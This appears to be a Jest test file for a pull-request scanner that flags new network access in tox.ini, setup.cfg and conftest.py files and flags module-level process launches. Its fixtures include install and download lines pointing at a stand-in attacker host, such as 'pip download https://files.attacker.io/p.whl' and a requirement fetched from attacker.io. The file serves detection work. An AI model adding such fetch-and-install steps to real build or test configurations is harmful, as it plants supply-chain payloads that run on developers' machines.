// build/test-runner-hook on what a change adds to test and task runner files:
// network access is a URL under an ini key that runs or installs something
// (not package metadata nor an environment setting), never a reserved name,
// and a URL whose host the base version already named there is not new.
import { describe, expect, it } from '@jest/globals';
import { MODULE_LEVEL_START, buildHits, iniRunLines, moduleLevelStart } from '../../actions/pr-anomaly-scan/src/build';
import { addedText, joinedText } from '../../actions/pr-anomaly-scan/src/types';
import { seeded, piecesText } from '../helpers/random';

/** The lines of `head` from line `from` to `to` (1-based, inclusive) as a change adding them, and its hits. */
function hits(path: string, head: string, from: number, to: number, sides: { base?: string; head?: string } = {}) {
  const lines = head
    .split('\n')
    .map((text, i) => ({ line: i + 1, text }))
    .filter((l) => l.line >= from && l.line <= to);
  return buildHits(addedText(path, lines), sides).map((h) => ({
    line: h.line.line,
    severity: h.severity ?? h.rule.severity,
    message: h.message
  }));
}

// notebook@2a391f699f2a: setup.cfg gains project_urls under [metadata].
const SETUP_CFG = `[metadata]
name = notebook
url = https://github.com/jupyter/notebook
project_urls =
    Documentation = https://jupyter-notebook.readthedocs.io/
    Source = https://github.com/jupyter/notebook
keywords = Jupyter

[options]
install_requires =
    jupyter_server>=1.4
`;

// sunpy@6088b60d297f and nibabel@f81f5a72ecd8: an index setting in set_env, beside keys that run.
const TOX_BASE = `[testenv]
deps =
    pytest
commands =
    pytest {posargs}
`;
const TOX = `[testenv]
set_env =
    MPLBACKEND = agg
    devdeps: PIP_EXTRA_INDEX_URL = https://pypi.anaconda.org/scientific-python-nightly-wheels/simple
deps =
    pytest
    pre: pydicom @ git+https://github.com/pydicom/pydicom.git@main
commands =
    pytest {posargs}
    pip download https://files.attacker.io/p.whl
`;

describe('build/test-runner-hook in ini files: only keys that run or install', () => {
  it('is quiet on package metadata: url and project_urls (notebook, jupyter_server)', () => {
    expect(hits('setup.cfg', SETUP_CFG, 3, 3)).toEqual([]);
    // The continuation lines' key is read from the head of the file.
    expect(hits('setup.cfg', SETUP_CFG, 5, 6, { head: SETUP_CFG })).toEqual([]);
    // A whole [metadata] section added: every key is shown.
    expect(hits('setup.cfg', SETUP_CFG, 1, 7)).toEqual([]);
  });

  it('is quiet on an index setting in set_env (sunpy, nibabel): deps/index-url reads those', () => {
    expect(hits('tox.ini', TOX, 4, 4, { head: TOX, base: TOX_BASE })).toEqual([]);
    expect(hits('tox.ini', TOX, 2, 4)).toEqual([]);
  });

  it('fires on a URL under commands or deps, whose key the head shows', () => {
    expect(hits('tox.ini', TOX, 10, 10, { head: TOX, base: TOX_BASE })).toEqual([
      { line: 10, severity: 'medium', message: 'tox.ini gains network access.' }
    ]);
    expect(hits('tox.ini', TOX, 7, 7, { head: TOX, base: TOX_BASE }).map((h) => h.severity)).toEqual(['medium']);
    // setup.cfg's requirement lists install: a direct URL there is network access.
    const cfg = SETUP_CFG.replace('jupyter_server>=1.4', 'evil @ https://files.attacker.io/evil.tar.gz');
    expect(hits('setup.cfg', cfg, 11, 11, { head: cfg }).map((h) => h.severity)).toEqual(['medium']);
  });

  it('counts a continuation line whose key neither the added lines nor a head show', () => {
    expect(hits('tox.ini', TOX, 10, 10).map((h) => h.severity)).toEqual(['medium']);
  });

  it('is low, saying so, for a URL whose host the base already names under a key that runs', () => {
    const base = TOX_BASE.replace(
      '    pytest\ncommands',
      '    dev: pydicom @ git+https://github.com/pydicom/pydicom.git@main\ncommands'
    );
    const found = hits('tox.ini', TOX, 7, 7, { head: TOX, base });
    expect(found.map((h) => h.severity)).toEqual(['low']);
    expect(found[0].message).toContain('already names (github.com)');
    // The same host named only by package metadata in the base is no precedent for installing from it.
    const metadataOnly = `[metadata]\nurl = https://github.com/jupyter/notebook\n${TOX_BASE}`;
    expect(hits('tox.ini', TOX, 7, 7, { head: TOX, base: metadataOnly }).map((h) => h.severity)).toEqual(['medium']);
  });

  it('tells each line whether its key runs', () => {
    expect(iniRunLines(['[testenv]', 'commands =', '  curl x', '', '  wget y', 'set_env =', '  A=1'])).toEqual([
      false,
      true,
      true,
      true,
      true,
      false,
      false
    ]);
    expect(iniRunLines([undefined, '  curl x'])).toEqual([undefined, undefined]);
    expect(iniRunLines(['[metadata]', 'install_requires = x', '[aliases]', 'release = sdist upload'])).toEqual([
      false,
      false,
      false,
      true
    ]);
  });
});

describe('build/test-runner-hook in conftest.py and other hooks', () => {
  // sunpy@6c277de2ab80: http→https of an example.com URL handed to a mocked fixture.
  const CONFTEST_BASE = `@pytest.fixture
def data_function_from_fake_module(module_patched_manager):
    @module_patched_manager.require(
        'test_file', ['http://www.example.com/test_file'], mocks.MOCK_HASH)
    def foo(manager_tester=lambda x: 1):
        manager_tester(module_patched_manager)
`;
  const CONFTEST = CONFTEST_BASE.replace('http://www.example.com', 'https://www.example.com');

  it('is quiet on a reserved name (sunpy)', () => {
    expect(hits('sunpy/conftest.py', CONFTEST, 4, 4)).toEqual([]);
    expect(hits('tests/conftest.py', 'SERVER = "https://mirror.test/simple"', 1, 1)).toEqual([]);
  });

  it('is low for a URL whose host the base already names in code, and fires on a new host', () => {
    const base = 'DATA = "http://data.sunpy.org/sample"\n';
    const head = 'DATA = "https://data.sunpy.org/sample"\n';
    expect(hits('tests/conftest.py', head, 1, 1, { base, head }).map((h) => h.severity)).toEqual(['low']);
    const other = 'DATA = "https://files.attacker.io/sample"\n';
    expect(hits('tests/conftest.py', other, 1, 1, { base, head: other }).map((h) => h.severity)).toEqual(['medium']);
  });

  it('still fires on a real network call in a test hook, whatever the host', () => {
    const call = 'import urllib.request\nurllib.request.urlopen("https://data.sunpy.org/sample").read()\n';
    const base = 'DATA = "https://data.sunpy.org/sample"\n';
    expect(hits('tests/conftest.py', call, 1, 2, { base, head: call })).toEqual([
      { line: 1, severity: 'medium', message: 'conftest.py gains network access.' }
    ]);
    const example = 'requests.get("https://www.example.com/x")';
    expect(hits('tests/conftest.py', example, 1, 1).map((h) => h.severity)).toEqual(['medium']);
    const tox = '[testenv]\ncommands =\n    curl -s https://www.example.com/i.sh\n';
    expect(hits('tox.ini', tox, 3, 3, { head: tox }).map((h) => h.severity)).toEqual(['medium']);
  });
});

describe('build/import-time-process', () => {
  it('finds the first added line that starts a process at module level, as testing every line does', () => {
    const pieces = [
      'subprocess.Popen(',
      'subprocess.run (',
      'os.system(',
      'os.popen(',
      'Popen(',
      'threading.Thread(t).start()'
    ];
    pieces.push(
      'proc = subprocess.Popen(',
      '_x=subprocess.Popen(',
      '    ',
      '\t',
      '# ',
      'x',
      '1',
      '"',
      ' ',
      '(',
      'é',
      '\r'
    );
    pieces.push('\n', '\n', '\n', '\n', 'import os', 'def f():', 'os.', 'subprocess', 'Thread(');
    const rnd = seeded(3);
    let found = 0;
    for (let n = 0; n < 5000; n++) {
      const text = piecesText(rnd, pieces, 25);
      const lines = text.split('\n').map((t, i) => ({ line: 2 * i + 1, text: t }));
      const expected = lines.find((l) => MODULE_LEVEL_START.test(l.text));
      const numbers = Int32Array.from(lines, (l) => l.line);
      for (const file of [addedText('pkg/m.py', lines), joinedText('pkg/m.py', text, numbers, [])])
        expect([text, moduleLevelStart(file)]).toEqual([text, expected]);
      if (expected) found++;
    }
    expect(found).toBeGreaterThan(1000);
    expect(found).toBeLessThan(4500);
  });
});
